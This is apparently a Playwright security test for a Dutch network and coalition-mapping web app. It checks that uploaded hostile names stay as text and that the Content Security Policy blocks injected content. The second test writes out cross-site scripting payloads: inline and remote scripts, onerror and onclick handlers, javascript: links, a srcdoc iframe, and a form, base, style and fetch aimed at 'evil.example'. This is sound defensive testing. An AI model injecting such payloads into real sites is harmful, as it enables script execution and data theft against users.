import { type Page } from "@playwright/test";
import { idsOf } from "../access/demo-ids";
import { expect, test } from "../fixtures";
import { hostileNetwork } from "../hostile/hostile-network";
import { cell, hostileNames, shown } from "../hostile/hostile-names";
import { upload } from "../import/upload";

const names = Object.values(hostileNames);

/** Nothing ran: no flag, no frame of somebody's own, and the page still is one of ours. */
async function expectHarmless(page: Page): Promise<void> {
  const found = await page.evaluate(() => ({
    ran: "ranHere" in window,
    frames: window.frames.length,
    handlers: document.querySelectorAll("[onerror],[onload],[onclick],[onmouseover],[onfocus],[srcdoc]")
      .length,
    addresses: [...document.links]
      .filter(({ protocol }) => !/^https?:$/.test(protocol))
      .map(({ href }) => href),
  }));
  expect(found, page.url()).toEqual({ ran: false, frames: 0, handlers: 0, addresses: [] });
}

async function expectShown(page: Page, texts: readonly string[]): Promise<void> {
  const all = shown((await page.locator("body").textContent()) ?? "");
  for (const text of texts)
    expect.soft(all, `${text} on ${new URL(page.url()).pathname}`).toContain(shown(text));
}

test("hostile names stay text on every page, in every file and picture", async ({ ownServer, pageOf }) => {
  test.slow();
  const page = await pageOf(ownServer, "consultant");
  page.setDefaultTimeout(20_000);
  const at = `${ownServer.url}/t/vaart`;
  const visited = new Set<string>();
  const look = async (path: string, texts: readonly string[] = []) => {
    await page.goto(path.startsWith("http") ? path : at + path, { waitUntil: "load" });
    visited.add(path);
    await expectHarmless(page);
    await expectShown(page, texts);
  };

  const rows = (header: string, of: (name: string, i: number) => string) =>
    [header, ...names.map(of)].join("\r\n");
  const files = {
    "Teams en afdelingen": rows(
      "code;valt onder;naam;niveau",
      (name, i) => `xu${i};wijken;${cell(name)};team`,
    ),
    Medewerkers: rows(
      "personeelsnummer;naam;rol;team",
      (name, i) => `xp${i};${cell(name)};professional;xu${i}`,
    ),
    Partners: rows("code;naam;sector", (name, i) => `xo${i};${cell(name)};housing`),
    Gebeurtenissen: rows(
      "datum;soort;titel",
      (name, i) => `2026-03-${String(i + 1).padStart(2, "0")};anders;${cell(name)}`,
    ),
  };
  await test.step("lists are read in, and looked at before", async () => {
    for (const [kind, content] of Object.entries(files)) {
      await upload(page, ownServer, {
        kind,
        content,
        name: `${hostileNames.picture.replaceAll("/", "")}.csv`,
      });
      await expectHarmless(page);
      await page.getByRole("button", { name: "Inlezen", exact: true }).click({ timeout: 10_000 });
      await expect(page.getByText("Het bestand is ingelezen"), kind).toBeVisible();
    }
    await look("/units", names);
    await look("/partners", names);
    await look("/events", names);
    for (const name of names.slice(0, 3)) await look(`/people?search=${encodeURIComponent(name)}`, [name]);
  });

  const wave = await test.step("a network is read in, with relations and attributes", async () => {
    await page.goto(`${at}/network-import`);
    await page.getByLabel("Bestanden").setInputFiles([...hostileNetwork()]);
    await page.getByRole("button", { name: "Bestanden bekijken" }).click();
    await expectHarmless(page);
    await page.getByLabel("Naam van het traject").fill(hostileNames.script);
    await page.getByLabel("Dag van de meting").fill("2024-11-04");
    await page.locator('select[name="relations[0].level"]').selectOption({ index: 2 });
    await page.getByRole("radio", { name: /^Namen/ }).check();
    await page.getByRole("button", { name: "Bekijken wat het wordt" }).click();
    await expectHarmless(page);
    await page.getByRole("button", { name: "Inlezen", exact: true }).click();
    await expect(page.getByRole("heading", { level: 1, name: hostileNames.script })).toBeVisible();
    await expectHarmless(page);
    await page.getByRole("link", { name: "Meting 1", exact: true }).click();
    await expect(page.getByRole("link", { name: "Naar de coalitiekaart" })).toBeVisible({ timeout: 60_000 });
    return new URL(page.url()).pathname;
  });

  await test.step("the map shows them, and a coalition is named", async () => {
    const map = `${ownServer.url}${wave}/coalitions`;
    // What turns the direction of writing is left out of a network that is read in.
    const kept = names.filter((name) => name !== hostileNames["other way round"]);
    await look(map, kept);
    const one = page
      .getByRole("listitem")
      .filter({ has: page.getByRole("heading", { name: "Coalitie 1", exact: true }) });
    await one.locator("summary", { hasText: /naam/ }).click();
    await one.getByLabel("Naam van Coalitie 1").fill(hostileNames.script);
    await one.getByRole("button", { name: "Bewaar de naam" }).click();
    await expect(page.getByRole("heading", { name: hostileNames.script, exact: true })).toBeVisible();
    await look(map, [hostileNames.script]);
    for (const path of ["what-if", "coalitions/export", "measurement", "links"])
      await look(`${ownServer.url}${wave}/${path}`);
  });

  await test.step("files and pictures of it are well-formed and name the same", async () => {
    const read = await page.evaluate(
      async ([base, formats]) => {
        const all = formats.map(async (file) => {
          const response = await fetch(`${base}/${file}`);
          const text = await response.text();
          if (/json$/.test(file))
            return [file, response.status, JSON.stringify(JSON.parse(text)), 0] as const;
          const parsed = new DOMParser().parseFromString(text, "application/xml");
          const wrong = parsed.querySelectorAll("parsererror, script, foreignObject, iframe").length;
          const told = [...parsed.querySelectorAll("*")].map(
            (one) => `${one.textContent} ${[...one.attributes].map(({ value }) => value).join(" ")}`,
          );
          return [file, response.status, told.join(" "), wrong] as const;
        });
        return Promise.all(all);
      },
      [
        `${wave}/coalitions`,
        ["export/network.graphml", "export/network.gexf", "export/network.kumu.json", "picture.svg"],
      ] as const,
    );
    for (const [file, status, text, wrong] of read) {
      expect.soft([file, status, wrong]).toEqual([file, 200, 0]);
      expect.soft(text, file).toContain(hostileNames.script);
    }
  });

  await test.step("pages that show what was asked for say it as text", async () => {
    const { person, partner, event, programme } = await idsOf(ownServer, "vaart");
    const asked = encodeURIComponent(hostileNames["end of a title"]);
    for (const path of [
      "",
      "/people",
      "/programmes",
      "/progress",
      `/people/${person}`,
      `/partners/${partner}`,
    ])
      await look(`${path}?search=${asked}&order=${asked}&programme=${asked}&kind=${asked}`);
    await look(`/events/${event}`);
    await look(`/programmes/${programme}/coalitions/over-time?from=${asked}&to=${asked}`);
    await look(`${ownServer.url}/portfolio`);
  });
  test
    .info()
    .annotations.push({ type: "pages", description: `${visited.size} pages, ${names.length} names` });
});

test("a script that got into a page does not run, nor does a handler", async ({
  server,
  pageOf,
  browser,
}) => {
  const member = await pageOf(server, "consultant");
  const { waves } = await idsOf(server, "vaart");
  const addresses = ["/nowhere", `/t/vaart/waves/${waves[0]}/coalitions`, server.demo.links.inside];
  const page = await browser.newPage();
  await page.context().addCookies(await member.context().cookies());
  for (const address of addresses) {
    await page.goto(server.url + address);
    const blocked = await page.evaluate(async () => {
      const heard: string[] = [];
      document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) =>
        heard.push(effectiveDirective),
      );
      const put = <Tag extends keyof HTMLElementTagNameMap>(
        tag: Tag,
        set: (one: HTMLElementTagNameMap[Tag]) => void,
      ) => {
        const one = document.createElement(tag);
        set(one);
        document.body.append(one);
        return one;
      };
      put("script", (one) => (one.textContent = "window.ranHere=1"));
      put("script", (one) => (one.src = "data:text/javascript,window.ranHere=1"));
      put("script", (one) => (one.src = "https://evil.example/x.js"));
      put("img", (one) => {
        one.setAttribute("onerror", "window.ranHere=1");
        one.src = "/nothing-there.png";
      });
      put("a", (one) => (one.href = "javascript:window.ranHere=1")).click();
      put("button", (one) => one.setAttribute("onclick", "window.ranHere=1")).click();
      put("iframe", (one) => (one.srcdoc = "<script>parent.ranHere=1</script>"));
      put("object", (one) => (one.data = "data:text/html,<script>1</script>"));
      put("style", (one) => (one.textContent = "body{background:url(https://evil.example/x)}"));
      put("div", (one) => one.setAttribute("style", "color:red"));
      put("base", (one) => (one.href = "https://evil.example/"));
      put("form", (one) => {
        one.action = "https://evil.example/";
        one.method = "post";
      }).submit();
      await fetch("https://evil.example/").catch(() => null);
      // Leading away is judged a little later than the rest.
      for (let turn = 0; turn < 50 && !heard.includes("form-action"); turn++)
        await new Promise((later) => setTimeout(later, 50));
      return {
        heard: [...new Set(heard)].sort(),
        ran: "ranHere" in window,
        base: document.baseURI.startsWith(location.origin),
      };
    });
    expect.soft(blocked.ran, address).toBe(false);
    expect.soft(blocked.base, address).toBe(true);
    for (const directive of [
      "script-src-elem",
      "script-src-attr",
      "style-src-elem",
      "style-src-attr",
      "connect-src",
      "form-action",
      "base-uri",
    ])
      expect.soft(blocked.heard, address).toContain(directive);
  }
  await page.close();
});
